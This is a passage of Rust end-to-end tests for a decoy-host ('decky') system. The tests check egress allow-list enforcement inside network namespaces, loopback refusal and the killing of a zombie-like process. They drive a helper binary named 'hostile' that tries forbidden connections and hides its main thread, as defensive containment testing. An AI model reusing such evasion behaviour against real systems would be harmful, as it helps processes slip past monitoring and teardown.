    assert!(
        manifest["skipped"].to_string().contains("pipe"),
        "{manifest}"
    );
    // Never overwritten; audited.
    let again = m.run(&[
        "swarm",
        "evidence",
        "w1",
        "trap",
        "-o",
        out.to_str().unwrap(),
    ]);
    assert!(!again.status.success());
    let audit = m.json(&["audit", "--json"]);
    assert!(
        audit
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["action"] == "swarm.evidence" && e["outcome"] == "ok"),
        "{audit}"
    );
}

/// A veth pair whose host side holds a non-loopback address this test
/// owns (the far side sits in a namespace of its own, and both go when it
/// is deleted): somewhere for a decky's egress to go that is neither the
/// host's loopback nor anywhere else.
struct EgressLink {
    ns: String,
    host_addr: std::net::Ipv4Addr,
}

impl EgressLink {
    fn create() -> Option<EgressLink> {
        let tag = decnet_pki::random_hex(2);
        let octet = 100 + (u8::from_str_radix(&tag[..2], 16).unwrap_or(0) % 100);
        let ns = format!("dneg{tag}");
        let host_side = format!("dneg{tag}h");
        let host_addr = std::net::Ipv4Addr::new(10, 214, octet, 1);
        let ip = |args: &[&str]| {
            std::process::Command::new("ip")
                .args(args)
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status()
                .is_ok_and(|s| s.success())
        };
        let link = EgressLink { ns, host_addr };
        let ok = ip(&["netns", "add", &link.ns])
            && ip(&[
                "link", "add", &host_side, "type", "veth", "peer", "name", "eth0", "netns",
                &link.ns,
            ])
            && ip(&["addr", "add", &format!("{host_addr}/30"), "dev", &host_side])
            && ip(&["link", "set", &host_side, "up"]);
        ok.then_some(link)
    }
}

impl Drop for EgressLink {
    fn drop(&mut self) {
        let _ = std::process::Command::new("ip")
            .args(["netns", "del", &self.ns])
            .status();
    }
}

/// Nothing leaves a decky but its egress allow-list: the decky connects to
/// its allowed destination (relayed by its shepherd, the destination sees
/// the connection and answers), while the same host on another port, a
/// host next to it, the host's loopback and the outside all fail — and
/// every such attempt is counted and shown in `swarm status`.
#[test]
fn a_decky_reaches_exactly_its_egress_allow_list() {
    outside_tmp();
    if !is_root() {
        decnet_e2e::skip::missing("not root: per-decky ids cannot be exercised");
        return;
    }
    let Some(link) = EgressLink::create() else {
        decnet_e2e::skip::missing(
            "\n!!! a veth pair cannot be made here (needs iproute2 and veth): egress test NOT run\n",
        );
        return;
    };
    let allowed = std::net::TcpListener::bind((link.host_addr, 0)).unwrap();
    let allowed_addr = allowed.local_addr().unwrap();
    let other_port = std::net::TcpListener::bind((link.host_addr, 0)).unwrap();
    let other_port_addr = other_port.local_addr().unwrap();
    let on_loopback = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let answered = std::thread::spawn(move || {
        let (mut c, from) = allowed.accept().unwrap();
        std::io::Write::write_all(&mut c, b"egress ok\n").unwrap();
        from
    });
    let m = MasterHome::new();
    chmod(m.dir.path(), 0o755);
    chmod(&m.home(), 0o755);
    m.enroll("w1");
    let state = m.dir.path().join("w1-state");
    let _agent = decnet_e2e::Agent::start(&m, "w1", &state, &[]);
    let tools = tempfile::tempdir().unwrap();
    chmod(tools.path(), 0o755);
    let hostile = tools.path().join("hostile");
    std::fs::copy(HOSTILE, &hostile).unwrap();
    chmod(&hostile, 0o755);
    let neighbour = std::net::Ipv4Addr::from(u32::from(link.host_addr) + 1);
    let forbidden = [
        other_port_addr.to_string(),
        format!("{neighbour}:{}", allowed_addr.port()),
        on_loopback.local_addr().unwrap().to_string(),
        "10.255.255.1:80".to_string(),
    ];
    let mut argv = vec![hostile.display().to_string(), "net".into()];
    argv.extend(["--connect".to_string(), allowed_addr.to_string()]);
    for t in &forbidden {
        argv.extend(["--connect".to_string(), t.clone()]);
    }
    // An allow-list naming the host's loopback is refused outright.
    let bad = write_config(
        m.dir.path(),
        "bad.json",
        serde_json::json!({"version": 1, "deckies": [{"name": "out", "command": argv,
            "egress": [{"to": "127.0.0.0/8", "port": 80}]}]}),
    );
    let out = m.run(&[
        "swarm",
        "deploy",
        "--config",
        bad.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!out.status.success() && text.contains("loopback"), "{text}");

    let cfg = write_config(
        m.dir.path(),
        "egress.json",
        serde_json::json!({"version": 1, "deckies": [{"name": "out", "command": argv,
            "egress": [{"to": link.host_addr.to_string(), "port": allowed_addr.port()}]}]}),
    );
    m.ok(&[
        "swarm",
        "deploy",
        "--config",
        cfg.to_str().unwrap(),
        "--host",
        "w1",
    ]);
    let log = wait_for(Duration::from_secs(30), || {
        let l = decky_log(&state, "out");
        l.contains("DONE").then_some(l)
    })
    .unwrap_or_else(|| panic!("the decky did not finish:\n{}", decky_log(&state, "out")));
    assert!(
        log.contains(&format!("ATTEMPT connect {allowed_addr}: SUCCEEDED")),
        "{log}"
    );
    let from = answered.join().unwrap();
    assert_eq!(
        from.ip(),
        std::net::IpAddr::V4(link.host_addr),
        "relayed from the host"
    );
    for t in &forbidden {
        assert!(
            log.contains(&format!("ATTEMPT connect {t}: blocked")),
            "{t} was reached:\n{log}"
        );
    }
    // Counted (the shepherd refreshes its figures every few seconds) and
    // shown to the operator.
    let counted = wait_for(Duration::from_secs(20), || {
        let d = status_of(&m, "w1", "out");
        let net = &d["observed"]["detail"]["network"];
        let n = net["forbidden"].as_u64().unwrap_or(0);
        (n >= 4 && net["egress_allowed"] == 1).then_some(d)
    })
    .unwrap_or_else(|| panic!("not counted: {}", status_of(&m, "w1", "out")));
    // Each attempt counted once: the neighbour and the outside had no
    // route; the loopback and the allowed host's other port were refused
    // inside the namespace.
    assert_eq!(
        counted["observed"]["detail"]["network"]["forbidden"].as_u64(),
        Some(4),
        "{counted}"
    );
    let table = m.run(&["swarm", "status", "w1"]);
    let table = String::from_utf8_lossy(&table.stdout);
    assert!(table.contains("forbidden connection attempt"), "{table}");
    drop(other_port);
}

/// A process whose main thread ended while another runs on looks like a
/// zombie in `/proc` (`Zl`): it must still be found, signalled and killed
/// (the uid sweep of a teardown relies on it: a decky doing this must not
/// outlive its teardown).
#[test]
fn a_process_whose_main_thread_ended_is_still_found_and_killed() {
    outside_tmp();
    let mut child = std::process::Command::new(HOSTILE)
        .arg("vanish")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    assert_eq!(line.trim(), "VANISHING");
    let pid = child.id();
    let state = wait_for(Duration::from_secs(5), || {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        let s = stat[stat.rfind(')')? + 2..]
            .split_whitespace()
            .next()?
            .to_string();
        (s == "Z").then_some(s)
    });
    assert!(state.is_some(), "the main thread did not end");
    assert!(decnet_proc::is_running(pid), "a Zl process is alive");
    let uid = rustix::process::getuid().as_raw();
    assert!(
        decnet_proc::processes_of_user(uid)
            .iter()
            .any(|h| h.pid() == pid),
        "the uid scan missed it"
    );
    let h = decnet_proc::ProcessHandle::open_any(pid).expect("a handle on it");
    h.signal(decnet_proc::Signal::KILL).unwrap();
    assert!(h.wait_exit(Duration::from_secs(5)));
    child.wait().unwrap();
}
